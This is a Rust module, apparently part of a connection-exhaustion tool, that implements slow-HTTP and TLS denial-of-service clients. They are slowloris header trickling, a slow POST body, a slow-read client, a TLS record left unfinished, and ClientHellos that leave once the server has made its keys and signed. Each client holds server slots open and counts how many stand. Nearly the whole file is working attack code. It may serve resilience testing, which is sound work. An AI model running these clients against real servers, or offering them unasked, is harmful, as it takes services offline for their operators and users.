//! Clients that take their time.

use std::io;
use std::sync::Arc;
use std::sync::atomic::AtomicUsize;
use std::time::Duration;

use rustls::{ClientConfig, ClientConnection};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, split};
use tokio::net::TcpStream;

use super::attack::Wire;
use super::{Stands, Target};
use crate::tls;

/// Between two bytes, or two fields.
const BEAT: Duration = Duration::from_secs(1);
/// What a slow reader lets be under way to it; the kernel doubles it.
pub(super) const WINDOW: u32 = 2 * 1024;
/// Longer than anybody waits at a byte a second.
const BODY_BYTES: usize = 1_000_000;

/// Asks once, hears the answer, and waits for the end.
pub(super) async fn idle(
    mut wire: Wire,
    target: &Target,
    standing: &AtomicUsize,
) -> io::Result<()> {
    let request = format!("GET / HTTP/1.1\r\nHost: {}\r\n\r\n", target.host);
    wire.write_all(request.as_bytes()).await?;
    wire.flush().await?;
    let mut answer = [0; 1024];
    if wire.read(&mut answer).await? == 0 {
        return Ok(());
    }
    let _standing = Stands::at(standing);
    until_closed(wire).await
}

pub(super) async fn head(wire: Wire, target: &Target, standing: &AtomicUsize) -> io::Result<()> {
    let start = format!("GET / HTTP/1.1\r\nHost: {}\r\n", target.host);
    trickle(wire, start, b"X-More: x\r\n", standing).await
}

pub(super) async fn body(wire: Wire, target: &Target, standing: &AtomicUsize) -> io::Result<()> {
    let host = &target.host;
    let start = format!("POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: {BODY_BYTES}\r\n\r\n");
    trickle(wire, start, b"x", standing).await
}

/// A start, and then a little of the rest each second, until the server has had enough.
async fn trickle(wire: Wire, start: String, drop: &[u8], standing: &AtomicUsize) -> io::Result<()> {
    let (reads, mut writes) = split(wire);
    let writing = async {
        writes.write_all(start.as_bytes()).await?;
        let _standing = Stands::at(standing);
        loop {
            writes.flush().await?;
            tokio::time::sleep(BEAT).await;
            writes.write_all(drop).await?;
        }
    };
    tokio::select! {
        ended = until_closed(reads) => ended,
        failed = writing => failed,
    }
}

pub(super) async fn reader(
    mut wire: Wire,
    target: &Target,
    standing: &AtomicUsize,
) -> io::Result<()> {
    let request = format!(
        "GET {} HTTP/1.1\r\nHost: {}\r\n\r\n",
        target.large, target.host
    );
    wire.write_all(request.as_bytes()).await?;
    wire.flush().await?;
    let mut few = [0; 16];
    let mut standing_since = None;
    while wire.read(&mut few).await? > 0 {
        standing_since.get_or_insert_with(|| Stands::at(standing));
        tokio::time::sleep(BEAT).await;
    }
    Ok(())
}

/// The beginning of a record that never ends.
pub(super) async fn handshake(mut stream: TcpStream, standing: &AtomicUsize) -> io::Result<()> {
    stream.write_all(&[22, 3, 1, 2, 0, 1]).await?;
    let _standing = Stands::at(standing);
    until_closed(stream).await
}

/// A whole ClientHello; whoever sent it is gone when the server has made its keys and signed.
pub(super) async fn handshake_left(
    mut stream: TcpStream,
    config: &Arc<ClientConfig>,
    host: &str,
) -> io::Result<()> {
    let name = tls::server_name(host)?;
    let mut client = ClientConnection::new(config.clone(), name).map_err(io::Error::other)?;
    let mut hello = Vec::new();
    client.write_tls(&mut hello)?;
    stream.write_all(&hello).await?;
    stream.read(&mut [0; 4096]).await.map(drop)
}

async fn until_closed(mut stream: impl tokio::io::AsyncRead + Unpin) -> io::Result<()> {
    let mut bytes = [0; 1024];
    while stream.read(&mut bytes).await? > 0 {}
    Ok(())
}
